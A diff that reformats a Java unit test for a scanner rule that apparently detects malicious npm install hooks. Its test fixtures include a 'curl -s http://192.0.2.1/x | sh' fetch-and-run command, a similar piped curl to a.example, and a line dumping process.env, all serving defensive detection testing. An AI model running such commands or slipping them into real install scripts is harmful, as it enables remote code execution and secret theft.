@@ -19,7 +19,8 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class HookFileRuleTest {
-    private static final String BLOB = "Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkLCB0aGlzIGlzIGEgdGVzdCcpOyBjb25zb2xlLmxvZygneCcpOw==";
+    private static final String BLOB =
+            "Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkLCB0aGlzIGlzIGEgdGVzdCcpOyBjb25zb2xlLmxvZygneCcpOw==";
 
     private static RecordedReport scan(String... namesAndTexts) {
         MemoryConnector files = new MemoryConnector();
@@ -100,7 +101,8 @@ class HookFileRuleTest {
                         + "  out.on('close', () => cp.spawnSync('./x', ['--version'], {env: process.env}));\n});\n",
                 "const m = /v(\\d+)/.exec(await (await fetch('https://a.example/v')).text());\nconsole.log(m);\n",
                 "function load(code) { return eval(code); }\nload('1 + 1');\n\nhttps.get(url, done);\n",
-                "const icon = Buffer.from('" + BLOB + "', 'base64');\nconst re = /a/.exec('a');\nfs.writeFileSync('i', icon);\n",
+                "const icon = Buffer.from('" + BLOB
+                        + "', 'base64');\nconst re = /a/.exec('a');\nfs.writeFileSync('i', icon);\n",
                 "console.log('to install by hand: curl https://a.example/x.sh | sh');\n",
                 "cp.execSync('node-gyp rebuild', {stdio: 'inherit', env: process.env});\n",
                 "console.log(JSON.stringify(process.env));\n"
@@ -113,19 +115,35 @@ class HookFileRuleTest {
     void onlyWhatAHookStartsIsItsFile() {
         String bad = "require('child_process').execSync('curl -s http://192.0.2.1/x | sh');\n";
         assertThat(script("install", "")).isEmpty();
-        assertThat(found(scan("p/package.json", hook("node install"), "p/install.js", bad))).hasSize(1);
-        assertThat(found(scan("p/package.json", hook("node other.js"), "p/install.js", bad))).isEmpty();
-        assertThat(found(scan("p/package.json", hook("node ../../install.js"), "install.js", bad))).isEmpty();
-        assertThat(found(scan("p/package.json", hook("node -e 1 install.js"), "p/install.js", bad))).isEmpty();
-        assertThat(found(scan(
-                        "p/package.json", "{\"scripts\": {\"start\": \"node install.js\"}}", "p/install.js", bad)))
+        assertThat(found(scan("p/package.json", hook("node install"), "p/install.js", bad)))
+                .hasSize(1);
+        assertThat(found(scan("p/package.json", hook("node other.js"), "p/install.js", bad)))
+                .isEmpty();
+        assertThat(found(scan("p/package.json", hook("node ../../install.js"), "install.js", bad)))
+                .isEmpty();
+        assertThat(found(scan("p/package.json", hook("node -e 1 install.js"), "p/install.js", bad)))
+                .isEmpty();
+        assertThat(found(
+                        scan("p/package.json", "{\"scripts\": {\"start\": \"node install.js\"}}", "p/install.js", bad)))
                 .isEmpty();
         RecordedReport missing = scan("p/package.json", hook("node dist/install.js"));
         assertThat(missing.gaps()).extracting(Gap::reason).isEmpty();
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"fetch(", "eval(", "a=fetch(;", "x1=fetch(y)\n", "'", "exec(\"", "fetch(a).b(", "process.env=", "(", "\\"})
+    @ValueSource(
+            strings = {
+                "fetch(",
+                "eval(",
+                "a=fetch(;",
+                "x1=fetch(y)\n",
+                "'",
+                "exec(\"",
+                "fetch(a).b(",
+                "process.env=",
+                "(",
+                "\\"
+            })
     void whatIsWrittenToTakeLongEnds(String part) {
         assertThat(script("install.js", part.repeat(60_000 / part.length()))).isNotNull();
         assertThat(found(scan("p/package.json", hook("sh x.sh"), "p/x.sh", part.repeat(60_000 / part.length()))))
